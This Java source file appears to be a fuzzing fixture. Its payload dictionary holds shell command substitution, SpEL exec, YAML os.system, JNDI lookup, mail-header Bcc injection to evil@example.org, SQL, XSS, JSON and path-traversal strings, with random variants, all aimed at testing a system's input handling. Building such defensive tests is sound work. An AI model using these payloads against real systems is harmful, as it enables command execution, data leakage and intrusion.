package io.autoscale.reactor.standin;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Texts that mean something to a shell, an expression language, a mail, a log, JSON or YAML, if anybody lets them; and some at
 * random, the same for the same seed. Those that run something leave a file in {@code proofs}, or call what a test has put on
 * the PATH as a trap.
 */
public final class HostileTexts {

    private static final int[] RANGES = {
        0, 0x20, 0x7f, 0xa0, 0x2000, 0x2070, 0xd800, 0xe000, 0xfe00, 0xffff, 0x1f300, 0x1f700
    };

    private HostileTexts() {}

    public static List<String> dictionary(Path proofs) {
        String touch = "touch " + proofs + "/";
        return List.of(
                "$(" + touch + "1)",
                "`" + touch + "2`",
                "'; " + touch + "3; '",
                "\"; " + touch + "4; \"",
                "' \"$(" + touch + "5)\" '",
                "| " + touch + "6 & " + touch + "7 && x || y > " + proofs + "/8",
                "'\\''$(" + touch + "9)'\\''",
                "a\n" + touch + "10\n",
                "a\r" + touch + "11\r\n2026-11-22 10:00:00.000 INFO  launch       forged",
                "\u2028" + touch + "12\u2029\u0085\u000b\u000c2026-11-22 10:00:00.000 forged",
                "nul\u0000\u0000" + touch + "13",
                "\u001b[2J\u001b]0;owned\u0007\u009b31m",
                "\u202eRTL\u202c \u2066isolated\u2069 \u200b\ufeff",
                "${body}",
                "${body.class.name}",
                "${exchangeProperty.CamelExceptionCaught}",
                "${sys:hostile.secret} ${env:PATH} ${properties:hostile.secret}",
                "${bean:saltSession?method=token}",
                "${bean:hostile?method=run}",
                "$simple{sys.hostile.secret} ${sysenv.PATH} ${sys.hostile.secret}",
                "#{systemProperties['hostile.secret']} #{T(java.lang.Runtime).getRuntime().exec('" + touch + "14')}",
                "{{hostile.secret}} {{reactor.salt.password}}",
                "{{env:PATH}} {{sys:hostile.secret}} {{?hostile.secret}}",
                "' OR 1=1 -- ' OR JMSMessageID IS NOT NULL",
                "Subject: x\r\nBcc: evil@example.org\r\n\r\nhello",
                "x\nBcc: evil@example.org",
                ".\r\nRCPT TO:<evil@example.org>\r\n.\r\n",
                "</td><script>alert(1)</script><p>&lt;",
                "\"},{\"work\":\"DELETE_KEY\",\"instance\":\"i-00000000\"",
                "\\\",\\\\\"\\u0022\\n",
                "!!python/object/apply:os.system ['" + touch + "15']",
                "- x: |\n  y: &a *a",
                "}\nmaster: evil.example.org\nid: '*'",
                "' # comment: {a: b, %YAML 1.1 ---",
                "%s%n%d%x %msg{} {}",
                "${jndi:ldap://127.0.0.1:1/x} ${${lower:j}ndi:rmi://127.0.0.1:1/x}",
                "../../../../etc/passwd /dev/tcp/127.0.0.1/1",
                "RAW(x) RAW{y} ?option=x&clientBuilder=#other#frag",
                "direct:delete-keys?x=y jms:queue:terminations ssh:root@127.0.0.1",
                "#reactor minion-key begin",
                "*",
                "[!a]?{a,b}",
                "\ud800 half a pair \udc00",
                "\ud83d\ude00\ud83c\udde9\ud83c\uddea e\u0301 \u00e9 \u4e2d\u6587",
                "x".repeat(255),
                "y".repeat(254) + "\ud83d\ude00",
                "z".repeat(1999) + "\ud83d\ude00\ud83d\ude00",
                "-",
                "");
    }

    /** Texts of dictionary words and random characters, controls and halves of pairs among them. */
    public static List<String> random(long seed, int number, Path proofs) {
        Random random = new Random(seed);
        List<String> words = dictionary(proofs);
        return IntStream.range(0, number)
                .mapToObj(n -> IntStream.range(0, 1 + random.nextInt(4))
                        .mapToObj(part ->
                                random.nextBoolean() ? words.get(random.nextInt(words.size())) : characters(random))
                        .collect(Collectors.joining()))
                .toList();
    }

    /** The same texts, as many together as fit into {@code length} characters; longer ones are left out. */
    public static List<String> packed(List<String> texts, int length) {
        List<String> packs = new ArrayList<>();
        StringBuilder pack = new StringBuilder();
        for (String text : texts) {
            if (text.length() >= length) {
                continue;
            }
            if (pack.length() + text.length() > length) {
                packs.add(pack.toString());
                pack.setLength(0);
            }
            pack.append(text);
        }
        packs.add(pack.toString());
        return packs;
    }

    private static String characters(Random random) {
        StringBuilder text = new StringBuilder();
        for (int left = random.nextInt(20); left > 0; left--) {
            int range = 2 * random.nextInt(RANGES.length / 2);
            text.appendCodePoint(RANGES[range] + random.nextInt(RANGES[range + 1] - RANGES[range]));
        }
        return text.toString();
    }

    /** What may be left of a text wherever it is shown: each character that is none to be seen is a blank. */
    public static String harmless(String text, int length) {
        StringBuilder harmless = new StringBuilder();
        text.codePoints().limit(length).forEach(c -> harmless.appendCodePoint(isVisible(c) ? c : ' '));
        return harmless.toString().strip();
    }

    public static boolean isVisible(int codePoint) {
        return switch (Character.getType(codePoint)) {
            case Character.CONTROL,
                    Character.FORMAT,
                    Character.SURROGATE,
                    Character.UNASSIGNED,
                    Character.LINE_SEPARATOR,
                    Character.PARAGRAPH_SEPARATOR -> false;
            default -> true;
        };
    }
}
